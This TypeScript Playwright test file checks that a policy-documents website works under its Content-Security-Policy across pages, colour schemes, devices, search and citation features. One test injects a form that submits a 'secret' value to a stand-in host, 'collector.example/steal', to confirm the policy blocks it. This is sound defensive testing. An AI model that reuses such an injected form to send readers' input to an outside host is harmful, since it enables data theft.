// The site under its Content-Security-Policy, as a reader uses it: every kind of page is loaded from
// the preview server (which sends the policy as a header), in light and dark, on a phone and a
// desktop, and the interactive parts are used; any policy violation, console error or page error
// fails the test. The policy allows scripts and styles from the site only, plus WebAssembly for
// Pagefind: no inline script, no style attribute, nothing from another origin, and forms submit to
// the site only (form-action, which default-src does not cover).

import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY, META_CONTENT_SECURITY_POLICY } from '../../src/site-config.ts';
import { isolatedContext, startSite, VIEWPORTS } from './support.ts';

interface Problems {
  violations: string[];
  errors: string[];
}

/** Opens a page, collecting CSP violations (reported to the page), console errors and uncaught errors. */
async function watch(page: Page): Promise<Problems> {
  const problems: Problems = { violations: [], errors: [] };
  await page.exposeFunction('__reportViolation', (v: string) => problems.violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __reportViolation: (v: string) => void }).__reportViolation(`${e.violatedDirective} ${e.blockedURI || 'inline'} at ${e.sourceFile}:${e.lineNumber} (${e.sample})`);
    });
  });
  page.on('console', (m) => {
    // The 404 page is visited on purpose: its own status is not an error of the site.
    if (m.type() === 'error' && !(m.text().includes('status of 404') && m.location().url.endsWith('/beijing/99/'))) problems.errors.push(`console: ${m.text()}`);
  });
  page.on('pageerror', (e) => problems.errors.push(`page error: ${e.message}`));
  return problems;
}

const PAGES = ['', 'letter/', 'hefei/', 'hefei/20/', 'sunan/1/', 'domains/', 'domains/land/', 'topics/', 'topics/standard-land/', 'compare/', 'compare/land/', 'compare/land/?pilots=beijing,chengdu', 'en/compare/', 'en/compare/land/?pilots=beijing,chengdu', 'en/compare/measures/?pilots=beijing,chengdu', 'about/', 'print/', 'search/', 'beijing/99/'];

describe.each(Object.entries(VIEWPORTS))('under the Content-Security-Policy (%s)', (_device, viewport) => {
  let site: Awaited<ReturnType<typeof startSite>>;
  beforeAll(async () => {
    site = await startSite();
  });
  afterAll(async () => site?.close());

  it('the preview server sends the policy with every page', async () => {
    const response = await fetch(`${site.url}hefei/`);
    expect(response.headers.get('content-security-policy')).toBe(CONTENT_SECURITY_POLICY);
  });

  for (const scheme of ['light', 'dark'] as const) {
    it(`every kind of page loads without a violation or an error (${scheme})`, async () => {
      const { context } = await isolatedContext(site.browser, site.url, { ...viewport, colorScheme: scheme });
      const page = await context.newPage();
      const problems = await watch(page);
      for (const path of PAGES) {
        await page.goto(site.url + path, { waitUntil: 'networkidle' });
        // The theme script ran: the page follows the reader's scheme.
        expect(await page.evaluate(() => document.documentElement.dataset.theme), path).toBe(scheme);
      }
      await context.close();
      expect(problems).toEqual({ violations: [], errors: [] });
    });
  }

  it('search (the exact pass and Pagefind’s WebAssembly), quick search and go-to work under it', async () => {
    const { context } = await isolatedContext(site.browser, site.url, viewport);
    const page = await context.newPage();
    const problems = await watch(page);
    // Pagefind compiles its WebAssembly under the policy ('wasm-unsafe-eval') and finds pages.
    await page.goto(`${site.url}search/`);
    // A string, not a function: the test runner would rewrite a function's import().
    const found = await page.evaluate(`import('${site.url}pagefind/pagefind.js').then((pf) => pf.search('居住证')).then((r) => r.results.length)`);
    expect(found).toBeGreaterThan(5);
    await page.goto(`${site.url}search/?q=${encodeURIComponent('居住证')}`);
    await page.locator('.sp-results .result').first().waitFor();
    await page.goto(`${site.url}letter/`);
    await page.locator('#qs-input').fill('亩均论英雄');
    await page.locator('.qs-panel:not([hidden]) .result').first().waitFor();
    await page.goto(site.url);
    await page.locator('#goto-q').fill('附件3（十二）');
    await page.locator('#goto-q').press('Enter');
    await page.waitForURL((u) => u.pathname.endsWith('/hangyongwen/12/'));
    await context.close();
    expect(problems).toEqual({ violations: [], errors: [] });
  });

  it('the site’s own search forms (GET to /search/ and /en/search/) submit under form-action \'self\'', async () => {
    expect(CONTENT_SECURITY_POLICY.split('; ')).toContain("form-action 'self'");
    expect(META_CONTENT_SECURITY_POLICY.split('; '), 'a <meta> policy can carry form-action').toContain("form-action 'self'");
    const { context, foreign } = await isolatedContext(site.browser, site.url, viewport);
    const page = await context.newPage();
    const problems = await watch(page);
    for (const [from, query, to] of [['', '居住证', '/search/'], ['beijing/99/', '标准地', '/search/'], ['en/', 'land', '/en/search/']] as const) {
      await page.goto(site.url + from);
      await page.locator('form.home-search input[name="q"]').fill(query);
      await page.locator('form.home-search button[type="submit"]').click();
      await page.waitForURL((u) => u.pathname.endsWith(to) && u.searchParams.get('q') === query);
    }
    await context.close();
    expect(foreign).toEqual([]);
    expect(problems).toEqual({ violations: [], errors: [] });
  });

  it('a form that would submit to another origin is refused by the policy, before any request leaves', async () => {
    const { context, foreign } = await isolatedContext(site.browser, site.url, viewport);
    const page = await context.newPage();
    const problems = await watch(page);
    await page.goto(`${site.url}beijing/12/`);
    // What an injection would add: a form that sends the reader's input elsewhere.
    await page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), { action: 'https://collector.example/steal', method: 'get' });
      form.append(Object.assign(document.createElement('input'), { name: 'q', value: 'secret' }));
      document.body.append(form);
      form.submit();
    });
    await expect.poll(() => problems.violations.length).toBeGreaterThan(0);
    expect(problems.violations.every((v) => v.startsWith('form-action https://collector.example/'))).toBe(true);
    expect(new URL(page.url()).pathname).toBe('/beijing/12/');
    await context.close();
    expect(foreign, 'the browser sent nothing to the other origin').toEqual([]);
  });

  it('the citation panel, sentence links and alias pages with #s3 work under it', async () => {
    const { context } = await isolatedContext(site.browser, site.url, { ...viewport, permissions: ['clipboard-read', 'clipboard-write'] });
    const page = await context.newPage();
    const problems = await watch(page);
    await page.goto(`${site.url}beijing/12/`);
    await page.locator('.sentence-mode').click();
    await page.locator('.s-link').first().click();
    await page.locator('.cite-panel summary').click();
    await page.locator('#cite-style').selectOption('bibtex');
    expect(await page.locator('.cite-output').textContent()).toContain('@misc{guohan-2025-86-beijing-12');
    await page.goto(`${site.url}annex/1/12/#s3`);
    await page.waitForURL((u) => u.pathname.endsWith('/beijing/12/') && u.hash === '#s3');
    await context.close();
    expect(problems).toEqual({ violations: [], errors: [] });
  });
});
